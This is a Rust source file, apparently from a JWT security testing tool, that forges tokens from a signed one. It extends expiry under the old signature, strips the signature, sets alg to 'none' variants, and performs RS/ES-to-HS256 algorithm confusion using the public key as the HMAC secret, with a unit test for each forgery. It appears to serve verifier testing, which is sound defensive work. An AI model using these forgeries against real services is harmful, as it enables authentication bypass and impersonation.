//! The tokens that a thief makes of a signed one, without the issuer's key.

use ring::hmac;

use super::{attack::Forgery, public_key::PublicKey};
use crate::token::{Members, Unverified, encode_base64url};

/// A token made of `token`. `None` if it is not a signed JWT, or if the forgery needs a key that is unknown.
pub(super) fn forge(forgery: Forgery, token: &Unverified, key: Option<&PublicKey>, now: u64) -> Option<String> {
    let [header, payload, signature] = &token.parts[..] else { return None };
    let [header, payload, signature] = [header, payload, signature].map(|part| String::from_utf8_lossy(part));
    Some(match forgery {
        Forgery::Tampered => {
            let mut claims = token.claims.clone();
            let expiry = claims.seconds("exp").unwrap_or(now).saturating_add(PROLONGED_SECONDS);
            claims.set("exp", &expiry.to_string());
            format!("{header}.{}.{signature}", encode(&claims))
        }
        Forgery::Unsigned => format!("{header}.{payload}."),
        Forgery::Algorithm(name) => format!("{}.{payload}.", with_algorithm(token, name)),
        Forgery::HmacByPem => by_hmac(token, &payload, key?.pem().as_bytes()),
        Forgery::HmacByDer => by_hmac(token, &payload, key?.der()),
    })
}

/// The token with a signature that a verifier accepts if it takes `secret` for the key of an HMAC (RFC 8725 §2.1).
fn by_hmac(token: &Unverified, payload: &str, secret: &[u8]) -> String {
    let input = format!("{}.{payload}", with_algorithm(token, "HS256"));
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
    format!("{input}.{}", encode_base64url(tag.as_ref()))
}

fn with_algorithm(token: &Unverified, name: &str) -> String {
    let mut header = token.header.clone();
    header.set("alg", &format!("\"{name}\""));
    encode(&header)
}

fn encode(members: &Members) -> String {
    encode_base64url(&serde_json::to_vec(members).unwrap_or_default())
}

/// A tampered token is valid for a day more.
const PROLONGED_SECONDS: u64 = 86_400;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::token::decode_base64url;

    fn decoded(token: &str) -> [String; 3] {
        let parts: Vec<_> = token.split('.').map(|part| decode_base64url(part.as_bytes()).unwrap()).collect();
        let parts: [Vec<u8>; 3] = parts.try_into().unwrap();
        parts.map(|part| String::from_utf8_lossy(&part).into_owned())
    }

    #[test]
    fn each_forgery_differs_in_one_thing() {
        let parts = [r#"{"alg":"ES256","kid":"1"}"#, r#"{"exp":100,"sub":"a"}"#, "s"];
        let token = parts.map(|part| encode_base64url(part.as_bytes())).join(".");
        let token = Unverified::decode(token.as_bytes());
        let jwks = br#"{"keys": [{"kty": "EC", "crv": "P-256", "x": "AAAA", "y": "AAAA"}]}"#;
        let key = PublicKey::find(jwks, &token.header).unwrap();
        let forged = |forgery| decoded(&forge(forgery, &token, Some(&key), 0).unwrap());
        assert_eq!(forged(Forgery::Tampered), [parts[0], r#"{"sub":"a","exp":86500}"#, "s"]);
        assert_eq!(forged(Forgery::Unsigned), [parts[0], parts[1], ""]);
        assert_eq!(forged(Forgery::Algorithm("nOnE")), [r#"{"kid":"1","alg":"nOnE"}"#, parts[1], ""]);
        for (forgery, secret) in
            [(Forgery::HmacByPem, key.pem().into_bytes()), (Forgery::HmacByDer, key.der().to_vec())]
        {
            let token = forge(forgery, &token, Some(&key), 0).unwrap();
            let (input, signature) = token.rsplit_once('.').unwrap();
            let key = hmac::Key::new(hmac::HMAC_SHA256, &secret);
            let signature = decode_base64url(signature.as_bytes()).unwrap();
            assert_eq!(hmac::verify(&key, input.as_bytes(), &signature), Ok(()));
            assert_eq!(decoded(&token)[..2], [r#"{"kid":"1","alg":"HS256"}"#, parts[1]]);
        }
        assert_eq!(forge(Forgery::HmacByPem, &token, None, 0), None);
        assert_eq!(forge(Forgery::Unsigned, &Unverified::decode(b"opaque"), None, 0), None);
    }
}
